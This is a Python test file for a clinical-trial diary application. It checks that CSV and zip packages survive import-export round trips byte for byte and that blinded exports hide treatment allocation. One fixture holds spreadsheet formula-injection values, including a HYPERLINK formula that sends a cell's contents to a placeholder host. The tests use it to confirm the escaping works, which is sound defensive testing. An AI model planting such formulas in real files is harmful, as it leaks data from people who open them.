"""Import -> export gives the same rows back; export -> import into an empty
database -> export changes nothing, byte for byte."""

import csv
import io
import json
import zipfile

import pytest
from django.core.management import call_command
from django.db import connection

from diary.models import Trial
from diary.package.export import package_export
from diary.selectors.package_export import package_tables
from diary.services.package_import import package_import

pytestmark = pytest.mark.django_db


def _rows(text: str) -> tuple[list[str], set[tuple]]:
    header, *rows = list(csv.reader(io.StringIO(text)))
    return header, rows


def _canonical(name: str, header: list[str], rows: list[list[str]]) -> list[dict]:
    """Rows as {column: value} with numbers compared as numbers (165.0 == 165)."""
    out = []
    for row in rows:
        cells = {}
        for column, value in zip(header, row, strict=True):
            try:
                cells[column] = (
                    float(value) if value and column not in ("participant_id",) else value
                )
            except ValueError:
                cells[column] = value
        out.append(cells)
    return sorted(out, key=lambda r: json.dumps(r, sort_keys=True, default=str))


def _fresh_database() -> None:
    """Empty every table, as in a newly created database (inside the test's
    transaction, which rolls it back)."""
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:  # no pending foreign-key checks to TRUNCATE
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
    call_command("flush", interactive=False, verbosity=0)
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SET CONSTRAINTS ALL DEFERRED")
    assert not Trial.objects.exists()


def test_import_then_export_gives_the_same_rows(builder, tmp_path):
    builder.row("participants.csv", participant_id="C1-001")["weight_kg"] = "70.0"
    package_import(path=builder.write(tmp_path / "in"))

    out = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "out")

    for name in builder.rows:
        exported_header, exported = _rows((out / name).read_text())
        assert exported_header == builder.columns[name]
        assert _canonical(name, exported_header, exported) == _canonical(
            name, builder.columns[name], _rows(builder.csv_text(name))[1]
        ), name
    protocol = json.loads((out / "trial.json").read_text())
    assert {k: protocol[k] for k in builder.trial_json} == builder.trial_json


@pytest.mark.parametrize("target", ["package", "package.zip"])
def test_export_import_export_is_byte_identical(builder, tmp_path, target):
    package_import(path=builder.write(tmp_path / "in"))
    first = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "1" / target)

    _fresh_database()
    package_import(path=first)
    second = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "2" / target)

    if target.endswith(".zip"):
        assert first.read_bytes() == second.read_bytes()
        with zipfile.ZipFile(second) as archive:
            # The electronic diary's files are always written, if only their header.
            expected = {"trial.json", "nights.csv", "cramp_events.csv", *builder.rows}
            assert sorted(archive.namelist()) == sorted(expected)
    else:
        names = sorted(p.name for p in first.iterdir())
        assert names == sorted(p.name for p in second.iterdir())
        for name in names:
            assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_blinded_export_has_no_allocation_and_no_arm(builder, tmp_path):
    package_import(path=builder.write(tmp_path / "in"))

    out = package_export(trial=Trial.objects.get(), unblinded=False, path=tmp_path / "out.zip")

    with zipfile.ZipFile(out) as archive:
        assert "allocation.csv" not in archive.namelist()
        text = b"".join(archive.read(n) for n in archive.namelist()).decode()
    for secret in ("vitamin_k2", "placebo", "Vitamin K2 (MK-7)", "Placebo"):
        assert secret not in text
    protocol = json.loads(zipfile.ZipFile(out).read("trial.json"))
    assert [(a["code"], a["role"]) for a in protocol["arms"]] == [
        ("arm_1", "experimental"),
        ("arm_2", "comparator"),
    ]


def test_blinded_export_round_trips_byte_identical(builder, tmp_path):
    package_import(path=builder.write(tmp_path / "in"))
    first = package_export(trial=Trial.objects.get(), unblinded=False, path=tmp_path / "1.zip")

    _fresh_database()
    package_import(path=first)
    second = package_export(trial=Trial.objects.get(), unblinded=False, path=tmp_path / "2.zip")

    assert first.read_bytes() == second.read_bytes()


def test_package_tables_are_typed_and_in_the_contract_order(builder, tmp_path):
    package_import(path=builder.write(tmp_path / "in"))

    tables = package_tables(trial=Trial.objects.get(), unblinded=True)

    assert list(tables) == [
        "sites.csv",
        "screening.csv",
        "participants.csv",
        "allocation.csv",
        "diary.csv",
        "nights.csv",
        "cramp_events.csv",
        "adverse_events.csv",
    ]
    diary = tables["diary.csv"]
    assert list(diary.columns) == builder.columns["diary.csv"]
    assert str(diary["cramps"].dtype) == "Int64"
    assert str(diary["severity"].dtype) == "float64"
    assert str(diary["reached"].dtype) == "boolean"
    assert diary["call_date"].dtype.kind == "M"
    first = diary.iloc[0]
    assert (first["participant_id"], first["phase"], first["week"]) == ("C1-001", "screening", 1)
    assert diary["severity"].iloc[1] == 5.5
    # Screening weeks come before intervention weeks, weeks in order.
    c1 = diary[diary["participant_id"] == "C1-001"]
    assert list(zip(c1["phase"], c1["week"], strict=True))[:3] == [
        ("screening", 1),
        ("screening", 2),
        ("intervention", 1),
    ]
    assert "allocation.csv" not in package_tables(trial=Trial.objects.get(), unblinded=False)


def test_export_leaves_out_the_not_randomized_and_the_weeks_not_called(trial, site_c1, tmp_path):
    from tests.factories import enrol

    enrol(trial, site_c1)  # consented, in the screening diary: not randomized

    tables = package_tables(trial=trial, unblinded=False)

    assert len(tables["screening.csv"]) == 1
    assert tables["participants.csv"].empty and tables["diary.csv"].empty


def test_export_refuses_a_folder_that_is_not_empty(builder, tmp_path):
    package_import(path=builder.write(tmp_path / "in"))
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "allocation.csv").write_text("old")

    with pytest.raises(FileExistsError):
        package_export(trial=Trial.objects.get(), unblinded=False, path=tmp_path / "out")


def test_exported_allocation_csv_hashes_to_the_list_fingerprint(builder, tmp_path):
    import hashlib

    from diary.models import RandomizationList
    from tests.diary.package.test_import import _with_spares

    _with_spares(builder)
    package_import(path=builder.write(tmp_path / "in"))

    out = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "out")

    exported = (out / "allocation.csv").read_bytes()
    assert exported.startswith(
        b"bottle_number,arm_code,block,stratum,is_spare\n1,vitamin_k2,1,,0\n"
    )
    assert hashlib.sha256(exported).hexdigest() == RandomizationList.objects.get().sha256


# Text that a spreadsheet would run (the contract's rule): one leading apostrophe on
# export, removed on import; the round trip stays byte-identical.
RUNNABLE = {
    ("adverse_events.csv", "term"): '=HYPERLINK("http://example.invalid/?d="&A2,"Headache")',
    ("adverse_events.csv", "outcome"): "@resolved",
    ("participants.csv", "withdrawal_reason"): "-moved away",
    ("sites.csv", "name"): "+Central hospital",
    ("screening.csv", "reason"): "\tdeclined by phone",
}


def _runnable(builder):
    builder.row("adverse_events.csv", term="Nausea").update(
        term="'" + RUNNABLE[("adverse_events.csv", "term")],
        outcome="'" + RUNNABLE[("adverse_events.csv", "outcome")],
    )
    builder.row("participants.csv", participant_id="C1-002")["withdrawal_reason"] = (
        "'" + RUNNABLE[("participants.csv", "withdrawal_reason")]
    )
    builder.row("sites.csv", site_code="C1")["name"] = "'" + RUNNABLE[("sites.csv", "name")]
    screen_failure = next(r for r in builder.rows["screening.csv"] if r["outcome"] != "enrolled")
    screen_failure["reason"] = "'" + RUNNABLE[("screening.csv", "reason")]
    return builder


def test_import_removes_the_apostrophe_before_runnable_text(builder, tmp_path):
    from diary.models import AdverseEvent, Participant, ScreeningRecord, Site

    builder.row("adverse_events.csv", term="Fall, hip fracture")["term"] = "'Fall"  # kept
    package_import(path=_runnable(builder).write(tmp_path / "in"))

    terms = set(AdverseEvent.objects.values_list("term", flat=True))
    assert terms == {RUNNABLE[("adverse_events.csv", "term")], "'Fall"}
    assert AdverseEvent.objects.filter(outcome="@resolved").exists()
    assert Participant.objects.get(participant_id="C1-002").withdrawal_reason == "-moved away"
    assert Site.objects.get(code="C1").name == "+Central hospital"
    assert ScreeningRecord.objects.filter(reason="\tdeclined by phone").exists()


def test_runnable_text_round_trips_byte_identical(builder, tmp_path):
    package_import(path=_runnable(builder).write(tmp_path / "in"))
    first = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "1")
    for (name, column), text in RUNNABLE.items():
        header, rows = _rows((first / name).read_text())
        assert "'" + text in [row[header.index(column)] for row in rows], (name, column)

    _fresh_database()
    package_import(path=first)
    second = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "2")

    for name in sorted(p.name for p in first.iterdir()):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_a_stop_of_treatment_is_imported_and_round_trips(builder, tmp_path):
    from datetime import date, timedelta

    from diary.models import Participant

    row = builder.row("participants.csv", participant_id="C1-001")
    stopped = date.fromisoformat(row["randomized_on"]) + timedelta(days=10)
    row.update(treatment_stopped_on=stopped.isoformat(), treatment_stop_reason="nausea")
    package_import(path=builder.write(tmp_path / "in"))

    participant = Participant.objects.get(participant_id="C1-001")
    assert (participant.treatment_stopped_on, participant.treatment_stop_reason) == (
        stopped,
        "nausea",
    )
    out = package_export(trial=Trial.objects.get(), unblinded=True, path=tmp_path / "out")
    header, rows = _rows((out / "participants.csv").read_text())
    exported = next(r for r in rows if r[header.index("participant_id")] == "C1-001")
    assert exported[header.index("treatment_stopped_on")] == stopped.isoformat()
    assert exported[header.index("treatment_stop_reason")] == "nausea"
